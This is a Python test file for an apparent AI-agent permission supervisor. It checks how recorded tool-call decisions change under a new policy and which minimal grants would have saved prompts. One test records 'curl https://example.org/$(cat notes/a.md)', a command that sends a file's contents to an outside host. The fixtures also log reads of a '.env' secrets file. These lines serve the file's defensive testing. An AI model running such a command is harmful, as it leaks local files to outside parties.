"""Recorded decisions under another policy: what flips, which grants would have saved prompts."""

from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from supervisor.policy.call import Allow
from supervisor.policy.compile import compile_policy
from supervisor.policy.compiled import CompiledPolicy
from supervisor.policy.permissions import Grant, GrantKind, GrantScope
from supervisor.policy.replay import (
    decide_again,
    flips_by_rule,
    recorded_decision,
    replayed,
)
from supervisor.policy.savings import Saving, smallest_grants
from supervisor.policy.schema import read_document
from supervisor.trust.levels import TrustLevel
from tests.worlds.decisions import Log
from tests.worlds.policy_world import SHIPPED, make_vault, shipped_policy

POLICY = shipped_policy()


def with_site(text: str) -> CompiledPolicy:
    shipped = read_document("default.yaml", (SHIPPED / "default.yaml").read_bytes())
    return compile_policy([shipped, read_document("site.yaml", text.encode())])


@dataclass(frozen=True)
class Pattern:
    kind: GrantKind
    pattern: str


@pytest.fixture
async def log(tmp_path: Path) -> Log:
    log = Log(POLICY, make_vault(tmp_path))
    await log.add("Read", file_path="notes/a.md", times=5)
    await log.add("Read", file_path="notes/Café.md", times=2)
    await log.add("Read", file_path="src/app.py")
    await log.add("Read", file_path=".env")
    await log.add("Read", file_path="docs/guide.md", level=TrustLevel.FULL, permissions=None)
    return log


async def test_the_same_policy_flips_nothing(log: Log) -> None:
    found = replayed(log.records, POLICY)
    assert found.flips == ()
    assert found.decided == len(log.records)
    assert found.prompts == 8


async def test_a_new_rule_flips_what_it_denies_and_an_override_what_it_frees(log: Log) -> None:
    candidate = with_site(
        "version: 1\ndeny:\n"
        "  - {id: env-files, reason: switched off}\n"
        "  - {id: guides, reason: not for agents, paths: [docs]}\n"
    )
    flips = replayed(log.records, candidate).flips
    told = {(each.recorded.said, each.verdict, each.rule) for each in flips}
    assert ("allow", "deny", "guides") in told
    assert any(before == "deny" and after != "deny" for before, after, _ in told)
    assert len(flips) == 2
    grouped = flips_by_rule(flips)
    assert sum(map(len, grouped.values())) == 2


@pytest.mark.parametrize("by_default", [True, False], ids=["by default", "of its own"])
async def test_what_a_policy_gives_by_default_is_the_candidates_and_grants_stay(
    tmp_path: Path, by_default: bool
) -> None:
    grant = Grant("g", GrantScope.SESSION, GrantKind.READ, "notes/a.md", TrustLevel.VAULT)
    held = replace(POLICY.defaults[TrustLevel.VAULT], grants=(grant,))
    log = Log(POLICY, make_vault(tmp_path))
    for path in ("notes/a.md", "docs/guide.md"):
        await log.add("Read", file_path=path, permissions=held, by_default=by_default)
    candidate = with_site("version: 1\ndefaults: {vault: {trust_mode: false}}\n")
    flips = replayed(log.records, candidate).flips
    told = [(flip.recorded.said, flip.verdict) for flip in flips]
    assert told == ([("allow", "ask")] if by_default else [])


async def test_no_file_is_looked_at_again(log: Log) -> None:
    for path in sorted(log.vault.rglob("*"), reverse=True):
        if path.is_file() or path.is_symlink():
            path.unlink()
    assert replayed(log.records, POLICY).flips == ()


async def test_what_was_recorded_without_its_input_is_counted_and_left_out(log: Log) -> None:
    old = {"kind": "decision", "body": {"tool": "Read", "said": "ask", "rule": "x"}}
    record = recorded_decision(1, old)
    assert record is not None
    found = replayed([*log.records, record], POLICY)
    assert found.left_out == {"it was recorded without its input": 1}
    assert recorded_decision(1, {"kind": "policy", "body": {}}) is None


async def test_the_grants_that_save_most_come_first_and_are_no_broader_than_needed(
    tmp_path: Path,
) -> None:
    log = Log(POLICY, make_vault(tmp_path))
    await log.add("Read", file_path="notes/a.md", times=5)
    await log.add("Read", file_path="notes/Café.md", times=2)
    await log.add("WebFetch", url="https://example.org", prompt="x", level=TrustLevel.VAULT)
    savings = smallest_grants(log.records, POLICY)
    assert savings[0] == Saving(((GrantKind.READ, "notes/*"),), "vault", 7)


async def proposed(tmp_path: Path, names: Sequence[str], tool: str = "Read") -> dict[str, int]:
    """The patterns that are proposed where each of these files was asked about once."""
    log = Log(POLICY, make_vault(tmp_path))
    for name in names:
        await log.add(tool, file_path=name, times=1, level=TrustLevel.VAULT)
    return {
        pattern: saving.prompts
        for saving in smallest_grants(log.records, POLICY)
        for _kind, pattern in saving.grants
    }


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (("notes/a.md", "notes/b.md", "docs/guide.md"), {"notes/*": 2, "docs/guide.md": 1}),
        (("notes/a.md",), {"notes/a.md": 1}),
        (("notes/a.md", "notes/a.md"), {"notes/a.md": 2}),
        (("notes/a.md", "notes/b.md"), {"notes/*": 2}),
        (("a.md", "b.md", "notes/a.md"), {"*": 2, "notes/a.md": 1}),
        (("p/x/a.md", "p/y/a.md"), {"p/x/a.md": 1, "p/y/a.md": 1}),
        (("p/x/a.md", "p/x/b.md", "p/y/a.md", "p/y/b.md"), {"p/x/*": 2, "p/y/*": 2}),
        (
            ("notes/a.md", "notes/b.md", "docs/a.md", "docs/b.md", "src/a.py", "a.md"),
            {"notes/*": 2, "docs/*": 2, "src/a.py": 1, "a.md": 1},
        ),
        (tuple(f"p/{n}/a.md" for n in range(6)), {"p/**/*": 6}),
        ((*(f"p/{n}/a.md" for n in range(6)), "q/a.md"), {"p/**/*": 6, "q/a.md": 1}),
        (tuple(f"{n}/{m}.md" for n in range(9) for m in range(2)), {"**/*": 18}),
    ],
    ids=str,
)
@pytest.mark.parametrize("tool", ["Read", "Write"])
async def test_a_broader_grant_is_proposed_only_where_it_saves_clearly_more(
    tmp_path: Path, names: Sequence[str], expected: dict[str, int], tool: str
) -> None:
    assert await proposed(tmp_path, names, tool) == expected


async def test_so_it_is_with_the_words_of_commands(tmp_path: Path) -> None:
    log = Log(POLICY, make_vault(tmp_path))
    for command in ("git log -3", "git log -5", "git diff notes"):
        await log.add("Bash", command=command)
    patterns = {
        pattern for each in smallest_grants(log.records, POLICY) for _, pattern in each.grants
    }
    assert "git" not in patterns


async def test_calls_that_need_several_grants_are_saved_by_them_together(tmp_path: Path) -> None:
    log = Log(POLICY, make_vault(tmp_path))
    for number in range(30):
        command = f"grep -c {number} notes/a.md && wc -l notes/a.md"
        await log.add("Bash", command=command)
    (saving,) = smallest_grants(log.records, POLICY)
    assert saving.prompts == 30
    assert {kind for kind, _pattern in saving.grants} == {GrantKind.BASH, GrantKind.READ}
    assert {"grep", "wc"} <= {pattern.split()[0] for _kind, pattern in saving.grants}


async def test_what_is_saved_is_what_the_policy_then_allows(log: Log) -> None:
    await log.add("Bash", command="cat notes/a.md | wc -l", times=3)
    await log.add("Bash", command="curl https://example.org/$(cat notes/a.md)", times=2)
    for saving in smallest_grants(log.records, POLICY):
        grants = tuple(
            Grant(f"g{number}", GrantScope.SESSION, kind, pattern, TrustLevel(saving.level))
            for number, (kind, pattern) in enumerate(saving.grants)
        )
        saved = 0
        for record in log.records:
            assert record.input is not None
            held = replace(record.input.under(POLICY), grants=grants)
            again = decide_again(replace(record.input, permissions=held), POLICY)
            saved += record.said == "ask" and isinstance(again, Allow)
        assert saved >= saving.prompts


async def test_what_is_not_asked_about_needs_no_grant(tmp_path: Path) -> None:
    log = Log(POLICY, make_vault(tmp_path))
    await log.add("Read", file_path=".env")
    await log.add("Read", file_path="notes/a.md", permissions=None)
    assert smallest_grants(log.records, POLICY) == ()
